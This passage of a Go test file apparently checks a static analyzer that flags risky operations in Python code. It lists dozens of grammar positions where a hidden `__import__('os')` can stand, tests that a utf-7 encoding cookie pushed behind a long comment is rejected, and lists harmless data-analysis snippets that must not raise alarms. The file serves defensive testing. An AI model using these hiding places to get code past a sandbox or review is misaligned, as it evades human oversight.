	for i := n; i >= 1; i-- {
		out += "  a" + strconv.Itoa(i) + " = a" + strconv.Itoa(i-1) + "\n"
	}
	return out
}

// positions are all places of the grammar in which an expression can stand.
var positions = []string{
	"type X = __import__('os')",
	"def f[T = __import__('os')](): pass",
	"class A[T: __import__('os')]: pass",
	"def f(*a: __import__('os')): pass",
	"def f() -> __import__('os'): pass",
	"async def f():\n  async with __import__('os'): pass",
	"async def f():\n  async for x in __import__('os'): pass",
	"[x async for x in __import__('os')]",
	"x = 1 if __import__('os') else 2",
	"while __import__('os'): break",
	"print(x for x in __import__('os'))",
	"del __import__('os').x",
	"a[__import__('os')] = 1\na = {}",
	"a = {}\na[__import__('os')] += 1",
	"class A(__import__('os').x): pass",
	"class A(metaclass=__import__('os')): pass",
	"try: pass\nexcept __import__('os'): pass",
	"try: pass\nexcept* __import__('os'): pass",
	"match 1:\n  case x if __import__('os'): pass",
	"raise x from __import__('os')\nx=1",
	"global x; x = __import__('os')",
	"f'{x:{__import__(\"os\")}}'\nx=1",
	"f'{x!r:{__import__(\"os\")}}'\nx=1",
	"t'{__import__(\"os\")}'",
	"yield_ = (yield __import__('os'))",
	"def f(): yield from __import__('os')",
	"x: __import__('os')",
	"x = lambda *a, b=__import__('os'), **k: 1",
	"print(*__import__('os'))",
	"print(**__import__('os'))",
	"{**__import__('os')}",
	"{__import__('os'): 1}",
	"x[__import__('os'):]\nx=1",
	"@__import__('os')\nasync def f(): pass",
	"with (open('/tmp/x') as f, __import__('os')): pass",
	"assert 1, __import__('os')",
	"if 0: pass\nelif __import__('os'): pass",
	"for x in 1,: pass\nelse: __import__('os')",
	"while 0: pass\nelse: __import__('os')",
	"try: pass\nexcept: pass\nelse: __import__('os')",
	"try: pass\nfinally: __import__('os')",
}

func TestAnImportIsFoundInEveryPlace(t *testing.T) {
	for _, source := range positions {
		t.Run(source, func(t *testing.T) {
			r := Read([]byte(source))
			if r.Error != nil {
				t.Fatalf("not valid Python: %v", r.Error.Message)
			}
			if !slices.ContainsFunc(r.Operations, func(op report.Operation) bool { return op.Kind == report.Dynamic && op.Name == "__import__" }) {
				t.Errorf("the import was not found: %v", r.Operations)
			}
		})
	}
}

// isPlain reports whether nothing in the report needs anybody's consent.
func isPlain(r *report.Report) bool {
	if !r.Complete() && r.Error != nil {
		return false
	}
	for _, op := range r.Operations {
		switch op.Kind {
		case report.Import, report.Compute:
		case report.FileRead, report.FileWrite, report.FileDelete:
			if f := op.Args.Path; f == nil || f.Known != report.Literal || !inWorkspace(f.Value) {
				return false
			}
		default:
			return false
		}
	}
	return len(r.Limits) == 0
}

func TestNoEvasionIsPlain(t *testing.T) {
	for name, source := range evasions {
		t.Run(name, func(t *testing.T) { checkFound(t, source) })
	}
}

// checkFound holds that an attack is Python, and that something is found in it.
func checkFound(t *testing.T, source string) {
	t.Helper()
	r := Read([]byte(source))
	if isPlain(r) {
		t.Errorf("nothing was found in\n%s\noperations: %v", source, r.Operations)
	}
	if r.Error != nil {
		t.Errorf("the attack is not valid Python: %v", r.Error.Message)
	}
}

// harmless is ordinary data work that must not raise an alarm.
var harmless = map[string]string{
	"a class with methods of common names": "class Account:\n  def __init__(self, a): self.balance, self._log = a, []\n  def save(self): self.run(); self._log.append(1)\n  def run(self): return self.__class__.__name__ if 0 else 1\nAccount(1).save()",
	"strings":                              "print('a-b'.replace('-', ' ').title(), '{:>{w}.2f}'.format(1.5, w=8), f'{1:,}', 'x'.join(map(str, range(3))))",
	"data frames":                          "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2], 'b': list('xy')})\ndf = df.rename(columns={'a': 'c'}).replace({'b': {'x': 'z'}})\nprint(df.groupby('b').agg({'c': ['sum', 'mean']}), df.query('c > 1 and b == \"x\"'), df.describe().T.to_string())\ndf['d'] = df['c'].apply(lambda v: v ** 2)\nprint(df.pivot_table(values='c', index='b', aggfunc='sum'), df.groupby('b').agg(total=('c', 'sum'), n=('amount_of_it', 'count')), df.merge(df, on='b', how='left').fillna(0))",
	"data frames beside paths":             "from pathlib import Path\nimport pandas as pd\ndf = pd.read_csv(Path('/inputs') / 'a.csv').rename(columns={'a': 'b'})\ndf['b'] = df['b'].str.replace('x', 'y')",
	"arrays":                               "import numpy as np\nrng = np.random.default_rng(0)\nx = rng.normal(size=(10, 3))\nq, r = np.linalg.qr(x)\nprint(x.mean(axis=0), np.where(x > 0, 1, 0).sum(), np.fft.fft(x[:, 0]).real, x.T @ x, x.dtype.name)",
	"charts":                               "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\nplt.style.use('ggplot')\nplt.rcParams['figure.figsize'] = (8, 4)\nplt.rcParams.update({'font.size': 12})\nfig, ax = plt.subplots()\nax.plot([1, 2], label='x')\nax.set(xlabel='a', ylabel='b')\nax.legend(loc='best')\nfig.tight_layout()\nfig.savefig('out.png', dpi=150)",
	"the standard library":                 "import json, re, csv, io, datetime, collections, itertools, functools, statistics, random, string, math, time, hashlib\nrows = list(csv.DictReader(io.StringIO('a,b\\n1,2')))\nprint(json.dumps(rows, indent=2), re.sub(r'\\d', 'x', 'a1'), datetime.datetime.now().strftime('%Y'), collections.Counter('aab').most_common(1))\nprint(statistics.mean([1, 2]), hashlib.sha256(b'x').hexdigest(), functools.reduce(lambda a, b: a + b, [1]), list(itertools.chain([1], [2])))",
	"files in the workspace":               "import os, glob, json\nos.makedirs('out', exist_ok=True)\nwith open('out/a.json', 'w') as f:\n  json.dump({}, f)\nfor p in sorted(glob.glob('out/*.json')): print(os.path.basename(p))\nos.remove('out/a.json')",
	"threads and coroutines":               "import asyncio, threading\nasync def f(): await asyncio.sleep(0)\nasyncio.run(f())\nt = threading.Thread(target=print, daemon=True)\nt.start(); t.join()",
	"dataclasses, enums and types":         "from dataclasses import dataclass, field\nfrom enum import Enum\nfrom typing import Optional, List\nclass C(Enum):\n  A = 1\n@dataclass(order=True)\nclass P:\n  x: Optional[int] = None\n  y: List[int] = field(default_factory=list)\nprint(P(1).y, C.A.value, type(P(1)).__name__, isinstance(1, int))",
	"arguments and logging":                "import argparse, logging, sys\nlogging.basicConfig(level=logging.INFO, format='%(message)s')\nlog = logging.getLogger(__name__)\np = argparse.ArgumentParser()\np.add_argument('--n', type=int, default=1)\na = p.parse_args()\nlog.info('n=%d', a.n)\nif __name__ == '__main__': sys.exit(0)",
	"getattr with the name of a field":     "class A:\n  size = 1\nprint(getattr(A(), 'size', None), hasattr(A(), 'size'))",
	"a carriage return at the very end":    "print(1)\r",
	"a match statement":                    "match [1, {'k': 2}]:\n  case [int(x), {'k': y, **rest}] if x: print(x, y, rest)\n  case _: pass",
}

func TestOrdinaryWorkIsPlain(t *testing.T) {
	for name, source := range harmless {
		t.Run(name, func(t *testing.T) {
			if r := Read([]byte(source)); !isPlain(r) {
				t.Errorf("alarms: %q, error: %v", effects(t, source), r.Error)
			}
		})
	}
}

func TestACookieBehindALongCommentIsFound(t *testing.T) {
	comment := "#" + strings.Repeat("a", 5000)
	for _, source := range []string{comment + " coding: utf-7\n", "\n" + comment + " coding: utf-7\n", comment + "\r\n# coding: utf-7\r\n"} {
		if r := Read([]byte(source)); r.Error == nil {
			t.Errorf("another encoding was accepted in %q", source[len(source)-20:])
		}
	}
}
